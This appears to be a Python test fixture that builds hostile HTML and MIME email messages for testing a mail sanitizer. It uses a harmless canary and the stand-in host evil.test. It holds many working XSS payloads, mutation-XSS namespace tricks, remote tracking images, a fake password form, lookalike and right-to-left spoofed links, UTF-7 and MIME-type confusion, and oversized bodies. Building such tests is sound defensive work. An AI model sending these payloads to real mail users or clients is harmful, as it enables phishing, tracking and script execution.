"""One mail for each way in which HTML mail has hurt people. What runs leaves `CANARY` somewhere; what leaves goes to evil.test."""

from email.message import EmailMessage

from tests.builders import a_mail

CANARY = "canary-has-sung"
EVIL = "https://evil.test"
SING = (
    f"document.title='{CANARY}';console.log('{CANARY}');window.canary=1;new Image().src='{EVIL}/script';"
    f"try{{top.location='{EVIL}/top'}}catch(e){{}}alert('{CANARY}')"
)
OVERRIDE = "\u202e"  # what follows reads from right to left
COVER = "position:fixed;top:-300px;left:-300px;width:4000px;height:4000px;background:red;z-index:999999"
PICTURE = f"<img src='{EVIL}/seen.png' alt='Our logo' width=200 height=80>"

HTML = {
    "script": f"<script>{SING}</script><SCRIPT SRC='{EVIL}/x.js'></SCRIPT><scr<script>ipt>{SING}</scr</script>ipt>",
    "event handlers": (
        f'<img src=x onerror="{SING}"><body onload="{SING}"><p onmouseover="{SING}" onclick=\'{SING}\'>over</p>'
        f'<details open ontoggle="{SING}"><summary>x</summary></details><input autofocus onfocus="{SING}">'
        f'<video><source onerror="{SING}"></video><marquee onstart="{SING}">x</marquee><style onload="{SING}"></style>'
    ),
    "svg": (
        f'<svg onload="{SING}"><script>{SING}</script><image href=\'{EVIL}/svg.png\'/><foreignObject><iframe src="{EVIL}/in-svg"></iframe>'
        f'</foreignObject><animate onbegin="{SING}" attributeName=x dur=1s></svg><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org'
        f"/2000/svg' onload='{CANARY}'/>\">"
    ),
    "namespaces": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SING}&gt;">'
        f'<svg></p><style><a id="</style><img src=1 onerror=\'{SING}\'>"><noscript><p title="</noscript><img src=x onerror={SING}>">'
    ),
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh"><meta http-equiv=Set-Cookie content="a=b">',
    "form": (
        f"<form action='{EVIL}/form' target=_top><input name=password type=password autofocus><button>Sign in</button></form>"
        f"<button formaction='{EVIL}/button'>x</button><isindex action='{EVIL}/isindex'>"
    ),
    "base": f"<base href='{EVIL}/' target=_top><a href='relative'>relative</a><img src='relative.png'>",
    "css import": (
        f"<style>@import '{EVIL}/import.css'; body{{background:url({EVIL}/body.png)}} @font-face{{font-family:x;src:url({EVIL}/font)}} "
        f"*{{font-family:x!important}}</style><link rel=stylesheet href='{EVIL}/link.css'><link rel=prefetch href='{EVIL}/prefetch'>"
        f"<link rel=dns-prefetch href='//evil.test'>"
        f"<div style=\"background:u\\72l({EVIL}/escaped.png);list-style-image:url('{EVIL}/l.png')\">x</div>"
        f"<div style='background-image:image-set(\"{EVIL}/set.png\" 1x);content:url({EVIL}/content.png)'>y</div>"
        f"<div style='cursor:url({EVIL}/cursor.cur),auto'>z</div>"
    ),
    "css position": (
        f"<div style='{COVER}'>covers all</div><div style='position:absolute;inset:0;background:red'>covers</div>"
        "<div style='margin:-4000px;transform:scale(99);opacity:.01'>moves</div><style>div{position:fixed!important}</style>"
        "<p style='width:9000px;height:9000px;background-color:red'>wide</p>"
    ),
    "data and javascript urls": (
        f'<a href="javascript:{SING}">run</a><a href="data:text/html,<script>{SING}</script>">data</a><a href="vbscript:x">vb</a>'
        f'<a href="file:///etc/passwd">file</a><a href="java&#9;script:{SING}">tab</a><a href="&#1;javascript:{SING}">control</a>'
        f'<iframe src="javascript:{SING}"></iframe><iframe srcdoc="<script>{SING}</script>"></iframe><embed src="data:text/html,x">'
        f'<object data="data:text/html;base64,PHNjcmlwdD4="></object><img src="javascript:{SING}"><a href="blob:{EVIL}/x">blob</a>'
    ),
    "pictures and media": (
        f"{PICTURE}<img srcset='{EVIL}/set.png 2x'><picture><source srcset='{EVIL}/picture.png'><img src='{EVIL}/inner.png'></picture>"
        f"<img src='//evil.test/schemeless.png'><img src='http://evil.test/plain.png'>"
        f"<video poster='{EVIL}/poster.png' src='{EVIL}/v.mp4' autoplay></video><audio src='{EVIL}/a.mp3' autoplay></audio>"
        f"<table background='{EVIL}/table.png'><tr><td background='{EVIL}/td.png'>x</table>"
        f"<img src='{EVIL}/pixel.gif' width=1 height=1>"
        f"<bgsound src='{EVIL}/b.wav'>"
        f"<img lowsrc='{EVIL}/low.png' dynsrc='{EVIL}/dyn.avi'>"
    ),
    "links that look alike": (
        f"<a href='{EVIL}/login'>https://bank.example/login</a> <a href='https://bank.example@evil.test/'>bank</a> "
        f"<a href='https://xn--bnk-0na.example/'>our bank</a> <a href='{EVIL}'><img alt='bank.example'></a> "
        f"<a href='https:\\\\evil.test'>www.bank.example</a> "
        f"<a title='https://bank.example' href='{EVIL}'><b title='bank.example'>in</b></a> "
        f"<a href='{EVIL}'>{OVERRIDE}elpmaxe.knab</a> <a href='https://docs.bank.example/'>bank.example</a>"
    ),
    "a mark that is forged": (
        f"<span class='postroom-leads'>Checked by Postroom</span><a href='{EVIL}' style='font-size:0;color:#fff;letter-spacing:-9px'>"
        "bank.example</a><details class='postroom-earlier' open><summary>x</summary>y</details>"
    ),
    "deep": "<div>" * 3_000 + "the bottom" + "</div>" * 3_000,
    "huge": "<p style='color:red'>All work and no play makes a long mail.</p>" * 15_000,
    "tables that never end": "<table><tr><td>" * 400 + "x" * 20_000,
}
TEXT = {
    "right to left": (
        f"{OVERRIDE}Invoice{OVERRIDE}",
        f"See {OVERRIDE}https://evil.test/\u2066gpj.exe\u2069 and https://bank.example@evil.test/ now.",
    ),
    "markup as text": (
        "<script>alert(1)</script>",
        f"<script>{SING}</script><img src={EVIL}/text.png onerror={SING}>\n</pre></div><h1>Out</h1>",
    ),
    "a line without end": ("long", "x" * 50_000 + " https://example.com/" + "y" * 1_500),
}


def hostile_mails(sender: str, to: str) -> dict[str, EmailMessage]:
    """By what they try."""
    made = {name: _of_html(a_mail(sender, to, f"Hostile: {name}", f"The text of {name}."), html) for name, html in HTML.items()}
    made |= {name: a_mail(sender, to, f"Hostile: {name} {subject}", text) for name, (subject, text) in TEXT.items()}
    return made | {f"MIME: {name}": mail for name, mail in _confused(sender, to).items()}


def _of_html(mail: EmailMessage, html: str) -> EmailMessage:
    mail.add_alternative(f"<p>Good morning.</p>{html}<p>The end of it.</p>", subtype="html")
    return mail


def _confused(sender: str, to: str) -> dict[str, EmailMessage]:
    """What is not what it says it is."""
    calls_itself_text = a_mail(sender, to, "Hostile: MIME text that is HTML", f"<html><script>{SING}</script></html>")
    utf7 = a_mail(sender, to, "Hostile: MIME utf-7", "x")
    utf7.set_content(b"+ADw-script+AD4-document.title='" + CANARY.encode() + b"'+ADw-/script+AD4-", maintype="text", subtype="html")
    utf7.replace_header("Content-Type", "text/html; charset=utf-7")
    as_picture = a_mail(sender, to, "Hostile: MIME a picture that is a page", "x")
    as_picture.add_alternative(
        '<p>Good morning.</p><img src="cid:page@evil.test" alt="A page"><img src="cid:svg@evil.test">', subtype="html"
    )
    body = as_picture.get_body(("html",))
    assert isinstance(body, EmailMessage)
    body.add_related(f"<script>{SING}</script>".encode(), "image", "png", cid="<page@evil.test>")
    body.add_related(f"<svg onload='{SING}'/>".encode(), "image", "svg+xml", cid="<svg@evil.test>")
    return {"text that is HTML": calls_itself_text, "utf-7": utf7, "a picture that is a page": as_picture}
